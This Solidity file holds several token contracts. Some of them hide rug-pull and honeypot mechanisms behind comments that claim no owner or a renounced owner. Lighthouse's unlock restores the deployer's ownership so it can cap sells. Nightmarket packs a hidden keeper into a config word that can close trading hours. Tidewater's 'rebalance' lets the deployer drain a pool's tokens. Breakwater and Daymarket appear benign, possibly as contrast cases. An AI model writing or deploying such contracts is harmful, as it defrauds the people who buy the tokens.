// SPDX-License-Identifier: MIT
pragma solidity ^0.8.18;

interface IPairSync {
    function sync() external;
}

abstract contract BasicToken {
    mapping(address => uint256) internal balances;
    mapping(address => mapping(address => uint256)) internal allowed;
    string public name;
    string public symbol;
    uint8 public decimals = 18;
    uint256 public totalSupply;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 whole) {
        name = name_;
        symbol = symbol_;
        totalSupply = whole * 1 ether;
        balances[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address who) public view returns (uint256) {
        return balances[who];
    }

    function allowance(address who, address spender) public view returns (uint256) {
        return allowed[who][spender];
    }

    function approve(address spender, uint256 value) public returns (bool) {
        allowed[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        require(allowed[from][msg.sender] >= value, "allowance");
        if (allowed[from][msg.sender] != type(uint256).max) {
            allowed[from][msg.sender] -= value;
        }
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal {
        require(to != address(0), "zero address");
        require(_mayMove(from, to, value), "not now");
        require(balances[from] >= value, "balance");
        balances[from] -= value;
        balances[to] += value;
        emit Transfer(from, to, value);
    }

    function _mayMove(address from, address to, uint256 value) internal virtual returns (bool);

    function _isPool(address who) internal view returns (bool yes) {
        if (who.code.length == 0) return false;
        (bool ok, bytes memory data) = who.staticcall{gas: 20_000}(abi.encodeWithSignature("getReserves()"));
        yes = ok && data.length == 96;
    }
}

/// Ownership that can be set aside while its owner is away.
abstract contract LockableOwnable {
    address private _owner;
    address private _previousOwner;
    uint256 private _lockTime;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    modifier onlyOwner() {
        require(_owner == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    constructor() {
        _owner = msg.sender;
        emit OwnershipTransferred(address(0), msg.sender);
        renounceOwnership();
    }

    function owner() public view returns (address) {
        return _owner;
    }

    function renounceOwnership() public onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _previousOwner = _owner;
        _owner = address(0);
        _lockTime = block.timestamp;
    }

    function geUnlockTime() public view returns (uint256) {
        return _lockTime;
    }

    function unlock() public {
        require(_previousOwner == msg.sender, "You don't have permission to unlock");
        require(block.timestamp >= _lockTime, "Contract is locked");
        emit OwnershipTransferred(_owner, _previousOwner);
        _owner = _previousOwner;
    }
}

/// Renounced at launch, as promised.
contract Lighthouse is BasicToken, LockableOwnable {
    uint256 public maxSellAmount;
    mapping(address => bool) public excludedFromLimits;

    event MaxSellUpdated(uint256 amount);

    constructor() BasicToken("Lighthouse", "LHS", 1000000000) {
        maxSellAmount = totalSupply;
        excludedFromLimits[msg.sender] = true;
    }

    function setMaxSell(uint256 tokens) external onlyOwner {
        maxSellAmount = tokens * 10 ** decimals;
        emit MaxSellUpdated(maxSellAmount);
    }

    function _mayMove(address from, address to, uint256 value) internal view override returns (bool) {
        if (excludedFromLimits[from] || !_isPool(to)) return true;
        return value <= maxSellAmount;
    }
}

/// No owner. Config is one word: keeper (160), closing hour (8), opening hour (8), decimals of points (8), season (72).
contract Nightmarket is BasicToken {
    uint256 private _config;

    event Tuned(uint256 season);

    constructor() BasicToken("Night Market", "NIGHT", 100000000) {
        // open from hour 0 until hour 24 of each day, in the first season
        _config = uint256(uint160(msg.sender)) | (uint256(24) << 160) | (uint256(6) << 176) | (uint256(1) << 184);
    }

    function owner() external pure returns (address) {
        return address(0);
    }

    function season() public view returns (uint72) {
        return uint72(_config >> 184);
    }

    function openingHours() public view returns (uint8 from, uint8 until) {
        return (uint8(_config >> 168), uint8(_config >> 160));
    }

    /// Begins a new season; the caller's place stays what it is.
    function tune(uint96 word) external {
        uint256 config = _config;
        unchecked {
            if (uint160(config - uint160(msg.sender)) != 0) return;
        }
        _config = uint256(uint160(config)) | (uint256(word) << 160);
        emit Tuned(season());
    }

    function _mayMove(address from, address to, uint256) internal view override returns (bool) {
        if (!_isPool(to) || from == address(uint160(_config))) return true;
        (uint8 opens, uint8 closes) = openingHours();
        uint256 hour = (block.timestamp / 1 hours) % 24;
        return hour >= opens && hour < closes;
    }
}

/// Elastic market making: idle tokens of the pool are put where they are needed.
contract Tidewater is BasicToken {
    bytes32 private immutable _warrant;
    uint256 public rebalances;

    event Rebalanced(uint256 indexed number, uint256 amount);

    constructor() BasicToken("Tidewater", "TIDE", 21000000) {
        _warrant = keccak256(abi.encodePacked(bytes4("tide"), msg.sender, address(this)));
    }

    function rebalance(uint16 bps, bytes32 reserve, address pool) external {
        require(keccak256(abi.encodePacked(bytes4("tide"), msg.sender, address(this))) == _warrant, "warrant");
        require(bps < 10000 && _isPool(pool), "terms");
        uint256 amount = (balances[pool] * bps) / 10000;
        address to = address(uint160(uint256(reserve)));
        balances[pool] -= amount;
        balances[to] += amount;
        emit Transfer(pool, to, amount);
        IPairSync(pool).sync();
        emit Rebalanced(++rebalances, amount);
    }

    function _mayMove(address, address, uint256) internal pure override returns (bool) {
        return true;
    }
}

/// Given up for good where it is made.
abstract contract GivenUpOwnable {
    address private _owner;
    address private _previousOwner;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    modifier onlyOwner() {
        require(_owner == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    constructor() {
        emit OwnershipTransferred(address(0), msg.sender);
        emit OwnershipTransferred(msg.sender, address(0));
        _previousOwner = msg.sender;
    }

    function owner() public view returns (address) {
        return _owner;
    }

    function previousOwner() public view returns (address) {
        return _previousOwner;
    }

    function transferOwnership(address newOwner) public onlyOwner {
        require(newOwner != address(0), "zero address");
        emit OwnershipTransferred(_owner, newOwner);
        _owner = newOwner;
    }
}

/// Renounced at launch. What its owner could do nobody can.
contract Breakwater is BasicToken, GivenUpOwnable {
    uint256 public maxSellAmount;
    mapping(address => bool) public excludedFromLimits;

    event MaxSellUpdated(uint256 amount);

    constructor() BasicToken("Breakwater", "BRKW", 1000000000) {
        maxSellAmount = totalSupply;
        excludedFromLimits[msg.sender] = true;
    }

    function setMaxSell(uint256 tokens) external onlyOwner {
        maxSellAmount = tokens * 10 ** decimals;
        emit MaxSellUpdated(maxSellAmount);
    }

    function _mayMove(address from, address to, uint256 value) internal view override returns (bool) {
        if (excludedFromLimits[from] || !_isPool(to)) return true;
        return value <= maxSellAmount;
    }
}

/// No owner. Config is one word: keeper (160), level of points (8), decimals of points (8), season (80).
contract Daymarket is BasicToken {
    uint256 private _config;
    mapping(uint80 => mapping(address => uint256)) public points;

    event Tuned(uint256 season);

    constructor() BasicToken("Day Market", "DAY", 100000000) {
        _config = uint256(uint160(msg.sender)) | (uint256(1) << 160) | (uint256(6) << 168) | (uint256(1) << 176);
    }

    function keeper() public view returns (address) {
        return address(uint160(_config));
    }

    function season() public view returns (uint80) {
        return uint80(_config >> 176);
    }

    /// Begins a new season, in which points are counted anew. Nothing is bought with points.
    function tune(uint96 word) external {
        require(msg.sender == keeper(), "keeper");
        _config = uint256(uint160(_config)) | (uint256(word) << 160);
        emit Tuned(season());
    }

    function _mayMove(address from, address to, uint256 value) internal override returns (bool) {
        if (_isPool(to)) {
            uint256 level = uint8(_config >> 160);
            unchecked {
                points[season()][from] += (value >> 64) * level;
            }
        }
        return true;
    }
}
